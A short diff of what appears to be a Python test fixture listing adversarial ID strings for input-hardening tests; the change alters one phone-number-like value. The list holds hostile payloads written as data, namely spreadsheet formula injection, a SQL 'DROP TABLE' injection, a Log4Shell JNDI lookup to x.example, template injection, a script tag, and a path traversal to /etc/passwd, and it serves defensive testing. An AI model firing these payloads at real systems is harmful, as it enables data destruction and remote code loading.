@@ -45,7 +45,7 @@ DATES = (
 )  # fmt: skip
 
 IDS = (
-    "=1+1", "+79001234567", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.example","y")', "\t=1+1", "|calc", "%0a=1",
+    "=1+1", "+7900-1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.example","y")', "\t=1+1", "|calc", "%0a=1",
     "'; DROP TABLE mart.customers; --", "1 OR 1=1", "\\'; SELECT 1; --", "{id:String}", "${jndi:ldap://x.example/a}",
     "$ne", "a.b", "%s%n", "{{7*7}}", "<script>alert(1)</script>", "../../etc/passwd", "C:\\con", "a,b", 'a"b', "a;b",
     "a\nb", "a\rb", "a\r\nb", "a\tb", "a\x00b", "\x00", "a\x1b[31mb", "a\x85b", "a\u2028b", "a\u202eb", "a\u200bb",
